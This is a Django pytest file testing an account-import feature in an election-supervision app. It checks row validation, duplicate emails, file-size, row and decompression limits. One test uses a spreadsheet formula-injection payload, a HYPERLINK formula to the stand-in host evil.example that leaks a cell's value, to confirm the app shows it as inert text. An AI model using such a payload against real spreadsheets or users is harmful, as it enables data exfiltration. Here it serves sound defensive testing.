import pytest
from django.core import mail
from django.core.files.uploadedfile import SimpleUploadedFile

from netra.accounts import importer
from netra.accounts.models import User
from netra.audit.models import AuditEntry

from .account_files import csv_file, upload, xlsx_file

GOOD = ["Wati Susanti", "wati@example.id", "bawaslu_regency", "35.09"]


def refused(client, file):
    before = User.objects.count()
    response = upload(client, file)
    assert response.status_code == 200
    assert User.objects.count() == before
    assert not AuditEntry.objects.filter(action="account.created").exists()
    assert not mail.outbox
    return response


@pytest.mark.parametrize(
    "bad, column, reason",
    [
        (["", "x@example.id", "bawaslu_regency", "35.09"], "Nama", "Nama wajib diisi"),
        (["A" * 151, "x@example.id", "bawaslu_regency", "35.09"], "Nama", "150"),
        (["Andi", "bukan-surel", "bawaslu_regency", "35.09"], "Surel", "alamat email yang valid"),
        (["Andi", "", "bawaslu_regency", "35.09"], "Surel", "wajib"),
        (["Andi", "wati@example.id", "bawaslu_regency", "35.09"], "Surel", "baris 2"),
        (["Andi", "x@example.id", "kepala dinas", "35.09"], "Peran", "Peran kepala dinas"),
        (["Andi", "x@example.id", "bawaslu_regency", "99.99"], "Wilayah", "99.99"),
        (["Andi", "x@example.id", "bawaslu_regency", "35"], "Wilayah", "kabupaten atau kota"),
        (["Andi", "x@example.id", "bawaslu_regency", ""], "Wilayah", "sekurang-kurangnya satu"),
        (["Andi", "x@example.id", "panwascam", "35.09"], "Wilayah", "kecamatan"),
        (["Andi", "x@example.id", "bkn", "35.09"], "Wilayah", "nasional"),
        (["Andi", "x@example.id", "bawaslu_regency", "35.1"], "Wilayah", "Teks"),
        (["Andi", "x@example.id", "bawaslu_regency", "Jember"], "Wilayah", "kode wilayah"),
    ],
)
def test_each_kind_of_bad_row_refuses_the_whole_file(client_for, admin, bad, column, reason):
    response = refused(client_for(admin), csv_file([GOOD, bad]))
    errors = response.context["errors"]
    assert [(e.row, e.column) for e in errors] == [(3, column)], [e.message for e in errors]
    assert reason.lower() in errors[0].message.lower()
    page = response.content.decode()
    assert "tidak ada yang dibuat" in page.lower()


def test_an_e_mail_address_an_account_already_has_is_refused(client_for, admin, alice):
    alice.email = "Wati@Example.id"
    alice.save()
    errors = refused(client_for(admin), csv_file([GOOD])).context["errors"]
    assert [(e.row, e.column) for e in errors] == [(2, "Surel")]
    assert "sudah ada" in errors[0].message


def test_every_error_of_the_file_is_listed(client_for, admin):
    rows = [GOOD, ["", "bad", "nobody", "Jember"], ["Andi", "andi@example.id", "bkn", ""]]
    errors = refused(client_for(admin), csv_file(rows)).context["errors"]
    assert [(e.row, e.column) for e in errors] == [
        (3, "Nama"),
        (3, "Surel"),
        (3, "Peran"),
        (3, "Wilayah"),
    ]


def test_a_formula_looking_cell_is_kept_as_plain_text_and_shown_as_such(client_for, admin):
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'
    client = client_for(admin)
    response = upload(
        client,
        csv_file([[f'"{formula.replace(chr(34), chr(34) * 2)}"', "f@example.id", "auditor", "35"]]),
    )
    assert response.status_code == 302
    account = User.objects.get(username="f")
    assert account.get_full_name() == formula
    page = client.get("/akun/pengguna/").content.decode()
    assert "=HYPERLINK(&quot;http://evil.example" in page
    assert '<a href="http://evil.example' not in page


def test_a_file_larger_than_the_limit_is_refused_before_it_is_read(client_for, admin, monkeypatch):
    def never(data):
        raise AssertionError("the file was read")

    monkeypatch.setattr(importer, "_open", never)
    big = SimpleUploadedFile("akun.csv", b"nama,surel,peran,wilayah\n" + b"x" * (3 * 2**20))
    response = refused(client_for(admin), big)
    assert "batasnya 2 MB" in response.content.decode()


def test_a_file_of_more_rows_than_the_limit_is_refused(client_for, admin, monkeypatch):
    monkeypatch.setattr(importer, "MAX_ROWS", 3)
    rows = [[f"Orang {i}", f"orang{i}@example.id", "auditor", "35"] for i in range(4)]
    response = refused(client_for(admin), csv_file(rows))
    assert "lebih dari 3 akun" in response.content.decode()


def test_an_xlsx_file_that_unpacks_to_too_much_is_refused(client_for, admin, monkeypatch):
    monkeypatch.setattr(importer, "MAX_UNPACKED_BYTES", 1000)
    rows = [[f"Orang {i}", f"orang{i}@example.id", "auditor", "35"] for i in range(20)]
    response = refused(client_for(admin), xlsx_file(rows))
    assert "batasnya" in response.content.decode()


def test_a_cell_far_longer_than_any_column_is_refused(client_for, admin):
    rows = [[GOOD[0], GOOD[1], GOOD[2], "35.09 " * 400]]
    errors = refused(client_for(admin), csv_file(rows)).context["errors"]
    assert [(e.row, e.column) for e in errors] == [(2, "Wilayah")]
    assert "1000" in errors[0].message


@pytest.mark.parametrize(
    "content, words",
    [
        (b"\xd0\xcf\x11\xe0" + b"\x00" * 600, "Excel lama"),
        (b"%PDF-1.4 bukan tabel", "bukan berkas CSV"),
        (b"nama;alamat\nWati;Jember\n", "Kolom wajib tidak ditemukan: surel, peran"),
        (b"nama,surel,peran,wilayah\n", "tidak ada baris akun"),
    ],
)
def test_a_file_that_is_no_account_table_says_why(client_for, admin, content, words):
    response = refused(client_for(admin), SimpleUploadedFile("akun.csv", content))
    assert words.lower() in response.content.decode().lower()


def test_a_sheet_of_endless_blank_rows_is_refused_without_reading_it_all(
    client_for, admin, monkeypatch
):
    monkeypatch.setattr(importer, "MAX_READ_ROWS", 5)
    rows = [["", "", "", ""]] * 10 + [GOOD]
    response = refused(client_for(admin), csv_file(rows))
    assert "lebih dari" in response.content.decode()


def test_a_username_taken_at_the_same_moment_asks_for_the_file_again(
    client_for, admin, monkeypatch
):
    from django.db import IntegrityError

    from netra.accounts import actions

    def raced(actor, rows):
        raise IntegrityError("duplicate key value violates unique constraint")

    monkeypatch.setattr(actions, "create_imported_accounts", raced)
    response = refused(client_for(admin), csv_file([GOOD]))
    assert "Unggah berkas itu lagi" in response.content.decode()
